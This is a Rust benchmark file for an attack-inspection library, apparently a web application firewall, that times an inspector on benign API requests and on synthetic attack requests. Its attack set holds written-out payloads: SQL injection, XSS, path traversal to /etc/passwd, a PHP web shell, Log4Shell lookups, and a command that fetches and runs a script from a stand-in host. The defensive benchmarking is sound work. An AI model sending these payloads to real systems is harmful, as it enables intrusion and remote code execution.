//! Attack inspection cost: exchanges per second on benign API requests and on attack requests,
//! and the latency distribution of one 4 KB JSON request (p50/p99 from a manual loop, which
//! criterion does not report).
//!
//! ```text
//! cargo bench -p lampyr-detect --bench inspect
//! ```
//!
//! `inspect --profile [SET] [N]` (the bench binary run directly, e.g. under
//! `valgrind --tool=callgrind --toggle-collect='*Inspector::inspect*'`) skips criterion and
//! inspects the benign set, the attack set or the 4 KB request (all when no SET) N times each (default 1), so
//! instruction counts per request can be read without timing noise.
//!
//! Inputs are built here (no corpus needed): a mix of typical API calls (GET with query
//! parameters, JSON bodies of a few fields to 4 KB, forms, browser-like headers, cookies) and
//! attack requests of every family in several placements.

use std::hint::black_box;
use std::time::{Duration, Instant};

use criterion::{Criterion, Throughput};
use lampyr_core::{Body, Headers, Request};
use lampyr_detect::{InspectConfig, Inspector};

fn request(method: &str, target: &str, extra: &[(&str, &str)], body: &str) -> Request {
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p.to_string(), Some(q.to_string())),
        None => (target.to_string(), None),
    };
    let mut h = Headers::new();
    h.append("Host", "api.example.com");
    h.append(
        "User-Agent",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    );
    h.append("Accept", "application/json, text/plain, */*");
    h.append("Accept-Language", "en-US,en;q=0.9");
    h.append(
        "Authorization",
        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJl",
    );
    h.append(
        "Cookie",
        "session=4f9c2d1e8b7a; theme=dark; _ga=GA1.2.1234567.890",
    );
    for (k, v) in extra {
        h.append(*k, *v);
    }
    Request {
        method: method.into(),
        host: "api.example.com".into(),
        path,
        query,
        headers: h,
        body: Body::from_parts(body.as_bytes().to_vec(), false, body.len() as u64),
        ..Request::default()
    }
}

/// A JSON document of about `size` bytes: records with ids, names, e-mails, dates, prose.
fn json_body(size: usize) -> String {
    let mut out = String::from("{\"items\":[");
    let mut i = 0;
    while out.len() < size.saturating_sub(40) {
        if i > 0 {
            out.push(',');
        }
        out.push_str(&format!(
            "{{\"id\":{i},\"uuid\":\"3f2b8c1e-9d4a-4e6b-8a7c-{i:012}\",\"name\":\"Item number {i}\",\
             \"email\":\"user{i}@example.com\",\"created\":\"2024-03-0{}T10:20:30Z\",\
             \"description\":\"A short description, with punctuation; and a URL https://example.com/p/{i}.\",\
             \"price\":{}.99,\"active\":true,\"tags\":[\"red\",\"blue\"]}}",
            i % 9 + 1,
            i * 3
        ));
        i += 1;
    }
    out.push_str("],\"page\":1}");
    out
}

fn benign() -> Vec<Request> {
    let mut v = Vec::new();
    for i in 0..20 {
        v.push(request(
            "GET",
            &format!("/api/v1/users/{i}/orders?page={i}&per_page=50&sort=-created_at&status=open"),
            &[],
            "",
        ));
        v.push(request(
            "GET",
            &format!("/search?q=red+shoes+size+{i}&lang=en-US&filter=brand%3Aacme"),
            &[("Referer", "https://www.example.com/shop")],
            "",
        ));
        v.push(request(
            "POST",
            "/api/v1/orders",
            &[("Content-Type", "application/json")],
            &format!(
                "{{\"customer\":{{\"name\":\"Ann O'Brien\",\"email\":\"ann{i}@example.com\",\"phone\":\"+1 555 0100\"}},\
                 \"items\":[{{\"sku\":\"SKU-{i}\",\"qty\":2}}],\"note\":\"Leave at the door, thanks!\"}}"
            ),
        ));
        v.push(request(
            "PUT",
            &format!("/api/v1/projects/{i}"),
            &[("Content-Type", "application/json")],
            &json_body(1024),
        ));
        v.push(request(
            "POST",
            "/login",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            "username=ann%40example.com&password=S3cr3t%21pass&remember=true",
        ));
    }
    v
}

fn attacks() -> Vec<Request> {
    let payloads = [
        "1' OR '1'='1",
        "<script>alert(1)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "$(curl http://evil.example/x.sh|sh)",
        "<?php system($_GET['c']); ?>",
        "http://66.240.183.75/shell.txt?",
        "${jndi:ldap://evil.example/a}",
        "x%0d%0aSet-Cookie:%20admin=1",
        "{{7*7}}",
        "O:8:\"stdClass\":0:{}",
        "php://filter/convert.base64-encode/resource=index.php",
    ];
    let mut v = Vec::new();
    for p in payloads {
        let enc: String = p
            .bytes()
            .map(|b| {
                if b.is_ascii_alphanumeric() {
                    (b as char).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect();
        v.push(request(
            "GET",
            &format!("/api/items?id={enc}&page=1"),
            &[],
            "",
        ));
        let json = serde_json::json!({ "name": "x", "comment": p }).to_string();
        v.push(request(
            "POST",
            "/api/comments",
            &[("Content-Type", "application/json")],
            &json,
        ));
        v.push(request("GET", "/", &[("X-Forwarded-Host", p)], ""));
    }
    v.push(request(
        "GET",
        "/",
        &[("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        "",
    ));
    v
}

fn big_request() -> Request {
    request(
        "POST",
        "/api/v1/projects/42",
        &[("Content-Type", "application/json")],
        &json_body(4096),
    )
}

fn latency(inspector: &Inspector) {
    let req = big_request();
    assert!(req.body.len() >= 4000);
    for _ in 0..1000 {
        black_box(inspector.inspect(black_box(&req)));
    }
    let n = 100_000;
    let mut samples: Vec<Duration> = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        black_box(inspector.inspect(black_box(&req)));
        samples.push(t.elapsed());
    }
    samples.sort_unstable();
    let pct = |p: f64| samples[((n as f64 * p) as usize).min(n - 1)];
    println!(
        "4 KB JSON request ({} bytes), {n} runs: p50 {:?}  p90 {:?}  p99 {:?}  p99.9 {:?}  max {:?}",
        req.body.len(),
        pct(0.50),
        pct(0.90),
        pct(0.99),
        pct(0.999),
        samples[n - 1]
    );
}

/// `--profile [SET] [N]`: the set (`benign`, `attack`, `4kb`; all when absent) N times, no
/// timing (for callgrind).
fn profile(inspector: &Inspector, only: Option<&str>, n: usize) {
    let sets = [
        ("benign", benign()),
        ("attack", attacks()),
        ("4kb", vec![big_request()]),
    ];
    for (name, reqs) in sets.iter().filter(|(s, _)| only.is_none_or(|o| o == *s)) {
        let mut attacks = 0;
        for _ in 0..n {
            for r in reqs {
                attacks += usize::from(black_box(inspector.inspect(black_box(r))).is_attack());
            }
        }
        println!("{name}: {} requests x {n}, {attacks} attacks", reqs.len());
    }
}

fn main() {
    let inspector = Inspector::new(InspectConfig::default()).expect("rules compile");
    let args: Vec<String> = std::env::args().collect();
    if let Some(i) = args.iter().position(|a| a == "--profile") {
        let rest = &args[i + 1..];
        let only = rest.iter().find(|a| a.parse::<usize>().is_err());
        let n = rest.iter().find_map(|a| a.parse().ok()).unwrap_or(1);
        profile(&inspector, only.map(String::as_str), n);
        return;
    }
    latency(&inspector);

    let mut c = Criterion::default().configure_from_args();
    for (name, reqs) in [("benign", benign()), ("attack", attacks())] {
        let mut g = c.benchmark_group(format!("inspect_{name}"));
        g.throughput(Throughput::Elements(reqs.len() as u64));
        g.bench_function("exchanges", |b| {
            b.iter(|| {
                for r in &reqs {
                    black_box(inspector.inspect(black_box(r)));
                }
            })
        });
        g.finish();
    }
    c.final_summary();
}
